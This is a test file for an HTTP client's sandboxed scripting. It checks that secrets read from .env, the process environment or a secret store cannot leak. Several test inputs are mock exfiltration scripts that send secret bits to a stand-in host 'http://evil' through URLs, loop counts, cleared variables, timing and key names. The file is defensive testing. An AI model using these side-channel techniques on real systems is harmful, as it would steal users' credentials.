import { beforeAll, describe, expect, it } from 'vitest';
import { judge } from '../../../../packages/sender/src/outcome/index';
import type { RunScript } from '../../../../packages/sender/src/scripts/index';
import {
  createKeptValues,
  createNamedResponses,
  definitionLayer,
  resolveIn,
  withSharedValues,
} from '../../../../packages/sender/src/variables/index';
import { bodyFile } from '../../../../packages/platform/src/body-file';
import { loadScriptBox } from '../../../script-engine';
import { problemsOf, sendFile, type Sending } from './send-file';

let run: RunScript;
beforeAll(async () => {
  run = (await loadScriptBox()).run;
});

const sources = { process: { TOK: 'ab' }, dotenv: { TOK: 'ab' }, secrets: { tok: 'ab' } };
const send = (text: string, sending: Omit<Sending, 'scriptBox'> = {}) =>
  sendFile(text, { ...sources, ...sending, scriptBox: () => Promise.resolve(run) });
const read = 'client.environment.get("$dotenv TOK")';
const toEvil = (lines: readonly string[]) => lines.filter((line) => line.includes('evil'));

describe('what a script has read', () => {
  it.each([
    ['.env', '$dotenv TOK', 'what is in .env'],
    ['the environment of the process', '$processEnv TOK', 'the environment variable TOK'],
    ['a kept secret', '$secret tok', 'the secret tok'],
  ])('is not shown by whether its own request goes out: %s', async (_, name, what) => {
    const text = `# @loop for 14\n< {%\n  const s = client.environment.get("${name}");\n  const i = request.iteration();\n  if (!((s.charCodeAt(Math.floor(i / 7)) >> (i % 7)) & 1)) throw 1;\n%}\nGET http://evil/bit/{{$index}}\n`;
    const { lines, outcomes } = await send(text);
    expect([outcomes.length, lines]).toEqual([14, []]);
    expect(problemsOf(outcomes)).toContain(`what a script has read (${what}) may not go to http://evil`);
  });

  it('is not shown by the names of what is kept', async () => {
    const text = `@key = {{$dotenv TOK}}\n\n{{\n  exports["leak_" + key] = 1;\n}}\nGET http://own/1\n\n###\n{{\n  exports.seen = Reflect.ownKeys(exports).join();\n  console.log(exports.seen);\n}}\nGET http://evil/names?x={{seen}}\n`;
    const { lines, outcomes, answers } = await send(text);
    expect(lines).toEqual(['GET http://own/1']);
    // Who looks at the names has read what they are made of.
    expect(answers.kept.get('seen')?.uses.length).toBeGreaterThan(0);
    expect(problemsOf(outcomes)[1]).toContain('what is in .env may not go to http://evil');
    expect(JSON.stringify(outcomes[1]?.log)).not.toContain('leak_');
  });

  it('is not shown by how often a script runs for a private list', async () => {
    const text = `@LST = {{$dotenv LST}}\n\n# @loop for item of LST\n< {% client.global.set("n", request.iteration()) %}\nGET http://own/1\n\n###\nGET http://evil/{{n}}\n`;
    const { lines, outcomes } = await send(text, { dotenv: { LST: '["a","b"]' } });
    expect(lines).toEqual(['GET http://own/1', 'GET http://own/1']);
    expect(problemsOf(outcomes).at(-1)).toContain('(what is in .env) may not go to http://evil');
  });

  it('is not shown by what is cleared', async () => {
    const text = `< {% for (let i = 0; i < 14; i++) client.global.set("b" + i, 1) %}\nGET http://evil/1\n\n###\n< {%\n  const s = ${read};\n  for (let i = 0; i < 14; i++) if ((s.charCodeAt(Math.floor(i / 7)) >> (i % 7)) & 1) client.global.clear("b" + i);\n%}\nGET http://own/2\n\n###\n@b3 = 0\nGET http://evil/{{b3}}\n\n###\n< {% let bits = ""; for (let i = 0; i < 14; i++) bits += client.global.get("b" + i) === null ? 1 : 0; client.global.set("bits", bits) %}\nGET http://evil/{{bits}}\n`;
    const { lines, outcomes } = await send(text);
    expect(lines).toEqual(['GET http://evil/1', 'GET http://own/2']);
    expect(problemsOf(outcomes).slice(2)).toEqual([
      'what a script has read (what is in .env) may not go to http://evil',
      'what a script has read (what is in .env) may not go to http://evil',
    ]);
  });

  it('is not shown by how often a request is sent', async () => {
    const until = (host: string) =>
      `@key = {{$dotenv TOK}}\n\n# @until js key.length !== 2 every 100 ms within 300 ms\nGET http://${host}/\n`;
    const { lines, outcomes } = await send(until('evil'));
    expect(lines).toEqual(['GET http://evil/']);
    expect(outcomes[0]?.asserts[0]).toMatchObject({
      outcome: 'unevaluated',
      message:
        'It was not sent again: its assert would let a private value decide how often, and what a script has read (what is in .env) may not go to http://evil.',
    });
    let time = 0;
    const clock = { now: () => (time += 50), guid: () => '', random: () => 0.5, environment: () => undefined };
    const file = { kind: 'file', path: '/f/.env', place: '.env', named: [] } as const;
    const dotenv = Object.assign(() => 'ab', { file: () => file });
    const allowed = await send(until('own'), { system: { ...clock, dotenv } });
    expect(allowed.lines.length).toBeGreaterThan(1);
  });

  it('is not shown by an assert that ends the run', async () => {
    const text = (assert: string) => `GET http://own/1\n\n?? ${assert}\n\n###\nGET http://evil/2\n`;
    const asserts = ['$.id != {{$dotenv TOK}}', 'js key.charAt(0) == a'];
    for (const assert of asserts) {
      const whole = `@key = {{$dotenv TOK}}\n\n${text(assert)}`;
      expect([assert, (await send(whole, { stopsAtFailure: true })).lines]).toEqual([assert, ['GET http://own/1']]);
      // Where the run goes on anyhow, the assert decides nothing.
      expect([assert, toEvil((await send(whole)).lines)]).toEqual([assert, ['GET http://evil/2']]);
    }
  });

  it('is not shown by a script behind a request, nor by how long one waits', async () => {
    const behind = `GET http://own/1\n\n> {% if (${read}.length === 2) throw 1 %}\n\n###\nGET http://evil/2\n`;
    expect((await send(behind)).lines).toEqual(['GET http://own/1']);
    const waiting = `@key = {{$dotenv TOK}}\n\n{{\n  await sleep(key.charCodeAt(0));\n}}\nGET http://evil/1\n`;
    expect((await send(waiting)).lines).toEqual([]);
  });

  it('costs nothing where the value may go, and nothing before it is read', async () => {
    const text = `GET http://evil/0\n\n###\n< {% const s = ${read}; client.global.set("a", s.length); client.global.clear("b"); %}\nGET http://own/{{a}}\n\n> {% client.test("ok", () => client.assert(response.status === 200)); %}\n\n###\nGET http://own/2\n\n###\n# @until js response.parsedBody.id == 7 every 100 ms\nGET http://own/3\n`;
    const { lines, outcomes } = await send(text);
    expect(lines).toEqual(['GET http://evil/0', 'GET http://own/2', 'GET http://own/2', 'GET http://own/3']);
    expect(problemsOf(outcomes)).toEqual([undefined, undefined, undefined, undefined]);
  });

  it('costs nothing where the script reads what is not private', async () => {
    const text = `@host = h\n\n< {% client.global.set("a", request.environment.get("host")); client.global.clear("a"); %}\nGET http://evil/1\n\n> {% client.global.set("id", response.body.id) %}\n\n###\nGET http://evil/{{id}}\n`;
    expect((await send(text)).lines).toEqual(['GET http://evil/1', 'GET http://evil/7']);
  });
});

describe('what a script has read, in another file of the window', () => {
  /** A file whose script has read a private value, and a function that sends another one after it. */
  async function afterPrivateFile(script: string) {
    const shared = createKeptValues();
    const answersOf = () => createNamedResponses(createKeptValues(shared));
    await send(`< {% client.global.set("b1", 1); client.global.set("b2", 1); %}\nGET http://own/1\n`, {
      answers: answersOf(),
    });
    await send(`< {% ${script} %}\nGET http://own/2\n`, { answers: answersOf() });
    return (text: string) => {
      const resolve = resolveIn([definitionLayer(text)]);
      return send(text, { answers: withSharedValues(answersOf(), shared, resolve) });
    };
  }

  it('is carried by requests that use, or ask for, what scripts have kept', async () => {
    const sendOther = await afterPrivateFile(`if (${read} === "ab") client.global.clear("b1")`);
    const others = [
      'GET http://evil/{{b2}}\n',
      '# @disabled b1\nGET http://evil/1\n',
      '< {% client.global.get("b1") %}\nGET http://evil/1\n',
      '< {% Object.keys(client.global); client.global.isEmpty() %}\nGET http://evil/1\n',
      '{{\n  exports.c = typeof b1;\n}}\nGET http://evil/1\n',
    ];
    for (const text of others) expect([text, (await sendOther(text)).lines]).toEqual([text, []]);
  });

  it('costs nothing where they use nothing of it', async () => {
    const sendOther = await afterPrivateFile(`client.global.set("t", ${read})`);
    const others = [
      'GET http://evil/{{$guid}}\n',
      '@b2 = 5\nGET http://evil/{{b2}}\n',
      'GET http://evil/1\n\n> {% client.test("ok", () => client.assert(response.status === 200)); client.global.set("n", 1); %}\n',
    ];
    for (const text of others) expect([text, (await sendOther(text)).lines.length]).toEqual([text, 1]);
  });
});

describe('the names that scripts set', () => {
  it.each(['$dotenv TOK', '$processEnv TOK', '$guid', 'login.response.body.$.t', 'login.request.headers.x'])(
    'are those of variables: %s',
    async (name) => {
      const text = `< {% client.global.set(${JSON.stringify(name)}, "poison") %}\nGET http://own/1\n\n###\n< {% request.variables.set(${JSON.stringify(name)}, "poison") %}\nGET http://own/{{$dotenv TOK}}\n\n###\nGET http://own/{{$dotenv TOK}}\n`;
      const { lines, outcomes, answers } = await send(text);
      expect(lines).toEqual(['GET http://own/ab']);
      expect(problemsOf(outcomes)[0]).toContain('Use a name of your own.');
      expect([...answers.kept.entries()]).toEqual([]);
    },
  );

  it('do not stand for what a request has sent or received', async () => {
    const text =
      '< {% client.global.set("login", { response: { body: { t: "poison" } } }) %}\nGET http://own/1\n\n###\nGET http://own/{{login.response.body.t}}\n\n###\nGET http://own/{{login.response}}\n';
    const { lines } = await send(text);
    expect(lines).toEqual(['GET http://own/1', 'GET http://own/{"body":{"t":"poison"}}']);
  });

  it('do not hide system variables from requests of other files', () => {
    const shared = createKeptValues();
    const value = { json: '"x"', text: 'x', uses: [], isSecret: false };
    expect([shared.set('$dotenv API', value), shared.set('a.response.body', value), shared.set('a', value)]).toEqual([
      false,
      false,
      true,
    ]);
    const answers = withSharedValues(createNamedResponses(createKeptValues(shared)), shared, () => undefined);
    expect(['$dotenv API', 'a.response.body', 'a'].map((name) => answers.resolve(name))).toEqual([
      undefined,
      undefined,
      'x',
    ]);
  });
});

describe('what scripts keep', () => {
  it('has a bound for the whole run', async () => {
    const json = JSON.stringify('x'.repeat(7_900_000));
    const keeping = (nameOf: (index: number) => string) => ({
      scriptBox: () =>
        Promise.resolve<RunScript>(({ index = 0 }) => {
          const change = { kind: 'set', name: nameOf(index), isOwn: false, json, text: '' } as const;
          return Promise.resolve({ changes: [change], tests: [], log: [], pause: 0 });
        }),
    });
    const text = '# @loop for 4\n< {% keep() %}\nGET http://own/{{$index}}\n';
    const { lines, outcomes } = await sendFile(
      text,
      keeping((index) => `v${index}`),
    );
    expect(lines).toEqual(['GET http://own/0', 'GET http://own/1']);
    expect(problemsOf(outcomes)[2]).toContain('have kept too much');
    expect(
      (
        await sendFile(
          text,
          keeping(() => 'v'),
        )
      ).lines.length,
    ).toBe(4);
  });
});

describe('a script that asks for one variable after the other', () => {
  it('learns how long it has run, so that its time is one for all', async () => {
    const spent: (number | undefined)[] = [];
    const scriptBox = () =>
      Promise.resolve<RunScript>((input) => {
        spent.push(input.spent);
        const wanted = spent.length < 4 ? { wanted: `v${spent.length}` } : {};
        return Promise.resolve({ ...wanted, changes: [], tests: [], log: [], pause: 0, took: 2_000 });
      });
    await sendFile('< {% x %}\nGET http://own/1\n', { scriptBox });
    expect(spent).toEqual([0, 2_000, 4_000, 6_000]);
  });
});

describe('a private file', () => {
  it.each(['/f/.env', '/f/http-client.private.env.json'])(
    'is not run as a script, whatever leads to it: %s',
    async (path) => {
      const readFile = () => Promise.resolve(bodyFile(new TextEncoder().encode('CANARY_9'), path));
      const { outcomes } = await send('GET http://own/1\n\n> ./e.js\n', { readFile });
      expect(outcomes[0]?.asserts[0]?.message).toContain('The file ./e.js is private, so it is not run as a script');
      expect(JSON.stringify(outcomes[0]?.asserts)).not.toContain('CANARY');
    },
  );
});

describe('the words of a script that has read a private value', () => {
  const dotenv = { TOK: 'canary-1' };
  const wordsOf = async (code: string, sending: Omit<Sending, 'scriptBox'> = {}) => {
    const { outcomes } = await send(`GET http://own/1\n\n> {%\n${code}\n%}\n`, { dotenv, process: {}, ...sending });
    const [outcome] = outcomes;
    return {
      log: outcome?.log?.map(({ text }) => text),
      tests: outcome?.asserts.map(({ text, outcome: of, message }) => [of, text, message].join('|')),
    };
  };
  const back = 'Kept back: the script has read a private value, and these words are not in its code.';

  it('are kept back in any spelling, and the results of its tests are not', async () => {
    const spelt = [
      's.split("").reverse().join("")',
      's.toUpperCase()',
      '[...s].map((one) => one.charCodeAt(0)).join()',
      's.split("").join(" ")',
    ];
    for (const spelling of spelt) {
      const code = `const s = ${read}; const t = ${spelling}; client.log(t); client.test(t, () => {}); client.test("b", () => { throw new Error(t) }); throw new Error(t);`;
      expect(await wordsOf(code)).toEqual({
        log: [back],
        tests: [
          'passed|Test 1 of the script (name kept back)|',
          `failed|b|${back}`,
          expect.stringContaining(`unevaluated|Script|${back}`),
        ],
      });
    }
  });

  it('stay where they are in the code, or are those of the engine', async () => {
    const code = `const s = ${read};\nclient.log("token is read"); client.log('it\\'s'); client.log(\`plain\`);\nclient.test("status is 200", () => client.assert(response.status === 201, "another status"));\nthrow new Error("stop");`;
    expect(await wordsOf(code)).toEqual({
      log: ['token is read', "it's", 'plain'],
      tests: ['failed|status is 200|another status', expect.stringMatching(/^unevaluated\|Script\|Stop\. \(line 7/)],
    });
    expect((await wordsOf(`${read}; missing();`)).tests?.[0]).toContain("ReferenceError: 'missing' is not defined.");
    const evaluated = await wordsOf(`const s = ${read}; eval([...s].reverse().join("").replace("-", "_"));`);
    expect(evaluated.tests?.[0]).toContain(back.slice(0, -1));
    const block = await send(
      '@key = {{$dotenv TOK}}\n\nGET http://own/1\n\n{{\n  key;\n  test.status(200);\n  test.header("content-type", "application/json");\n  test.status(key.length);\n}}\n',
      { dotenv },
    );
    expect(block.outcomes[0]?.asserts.map(({ text }) => text)).toEqual([
      'status == 200',
      'header content-type == application/json',
      'Test 3 of the script (name kept back)',
    ]);
  });

  it('are shown to who asks for secrets, and where nothing private was read', async () => {
    expect((await wordsOf(`client.log(${read}.length)`, { showsSecrets: true })).log).toEqual(['8']);
    expect((await wordsOf('client.log("id", response.body.id)')).log).toEqual(['id 7']);
  });

  it('are kept back for an expression of an assert, too', async () => {
    const text =
      '@key = {{$dotenv TOK}}\n\nGET http://own/1\n\n?? js key.split("").reverse().join("") == x\n?? js key.length > 100\n?? js key.missing.of\n';
    const { outcomes } = await send(text, { dotenv });
    const shown = JSON.stringify(outcomes[0]?.asserts);
    expect(shown).not.toContain('1-yranac');
    expect(shown).not.toContain('"received":"8"');
    expect(outcomes[0]?.asserts[2]?.message).toBe("TypeError: cannot read property 'of' of undefined.");
  });
});

describe('a status of 400 or more', () => {
  const verdictOf = async (script: string, status = 500) => {
    const { outcomes } = await send(`GET http://own/1\n\n${script}\n`, { status });
    return outcomes.map((one) => judge(one).verdict).join();
  };

  it('is judged by a test that reads it while it runs', async () => {
    for (const script of [
      '> {% client.test("a", () => client.assert(response.status === 500)) %}',
      '> {% client.test("a", () => client.assert(response["statusCode"] >= 500)) %}',
      '> {% client.test("a", async () => { await null; client.assert(response.responseCode === 500) }) %}',
      '{{\n  test.status(500);\n}}',
      '{{\n  const { status } = response;\n  test("a", () => { if (response.statusCode !== status) throw 1; });\n}}',
    ])
      expect([script, await verdictOf(script)]).toEqual([script, 'passed']);
  });

  it('is a failure where no test has read it', async () => {
    for (const script of [
      '> {% // response.status is nothing here\nclient.test("a", () => {}) %}',
      '> {% if (response.status === 200) client.global.set("a", 1); client.test("a", () => {}) %}',
      '> {% client.log(response.status); client.test("a", () => client.assert(response.body.id === 7)) %}',
      '{{\n  test.hasResponseBody();\n  exports.s = response.statusCode;\n}}',
    ])
      expect([script, await verdictOf(script)]).toEqual([script, 'failed']);
  });
});
